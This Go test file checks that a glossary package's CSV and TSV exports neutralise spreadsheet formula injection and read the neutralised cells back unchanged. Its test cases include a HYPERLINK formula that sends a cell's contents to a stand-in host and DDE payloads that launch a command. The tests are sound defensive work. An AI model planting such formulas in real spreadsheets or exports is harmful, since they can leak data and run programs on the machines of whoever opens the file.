package termcsv

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

func TestWriteTableNeutralisesFormulasAndReadTableRestoresThem(t *testing.T) {
	tests := map[string]struct {
		text     string // the term, as stored
		wantCell string // the cell as a spreadsheet gets it
	}{
		"hyperlink":            {`=HYPERLINK("http://x.example/?"&A1,"help")`, `'=HYPERLINK("http://x.example/?"&A1,"help")`},
		"dde command":          {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		"at function":          {"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		"arithmetic":           {"-2+3", "'-2+3"},
		"negative number":      {"-5", "'-5"},
		"lone minus":           {"-", "'-"},
		"quote then formula":   {"'=1+1", "''=1+1"},
		"quotes then formula":  {"''-5", "'''-5"},
		"ordinary text":        {"hand washing", "hand washing"},
		"leading quote kept":   {"'bout", "'bout"},
		"lone quote":           {"'", "'"},
		"formula sign inside":  {"a=b+c", "a=b+c"},
		"hyphen after letters": {"COVID-19", "COVID-19"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			in := []Entry{{Terms: []Term{{Lang: "en", Text: tt.text}, {Lang: "sw", Text: "neno"}}}}
			for _, write := range []struct {
				name  string
				fn    func(*bytes.Buffer) (int, error)
				comma rune
			}{
				{"csv", func(b *bytes.Buffer) (int, error) { return WriteTable(b, []string{"en", "sw"}, in) }, ','},
				{"tsv", func(b *bytes.Buffer) (int, error) { return WriteTSV(b, []string{"en", "sw"}, in) }, '\t'},
			} {
				var buf bytes.Buffer
				n, err := write.fn(&buf)
				if err != nil {
					t.Fatal(err)
				}
				cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
				cr.Comma = write.comma
				records, err := cr.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				if got := records[1][0]; got != tt.wantCell {
					t.Errorf("%s cell = %q, want %q", write.name, got, tt.wantCell)
				}
				wantN := 0
				if tt.wantCell != tt.text {
					wantN = 1
				}
				if n != wantN {
					t.Errorf("%s neutralised %d cells, want %d", write.name, n, wantN)
				}
				back, _ := mustReadTable(t, buf.Bytes(), "export."+write.name)
				if got, want := withoutLines(back), in; !reflect.DeepEqual(got, want) {
					t.Errorf("%s read back %+v, want %+v", write.name, got, want)
				}
			}
		})
	}
}

func TestWriteTableNeutralisesEveryColumn(t *testing.T) {
	in := []Entry{{Definition: "=def", Note: "+note", Source: "@source", Terms: []Term{
		{Lang: "en", Text: "-en", PartOfSpeech: "=pos"}, {Lang: "sw", Text: "=sw", PartOfSpeech: "=pos"},
	}}}
	var buf bytes.Buffer
	n, err := WriteTable(&buf, []string{"en", "sw"}, in)
	if err != nil {
		t.Fatal(err)
	}
	if want := "'-en,'=sw,'=pos,'=def,'+note,,'@source\n"; !strings.HasSuffix(buf.String(), want) || n != 6 {
		t.Errorf("wrote %d neutralised cells:\n%s\nwant 6, ending %q", n, buf.String(), want)
	}
	back, _ := mustReadTable(t, buf.Bytes(), "export.csv")
	if got := withoutLines(back); !reflect.DeepEqual(got, in) {
		t.Errorf("read back %+v, want %+v", got, in)
	}
}
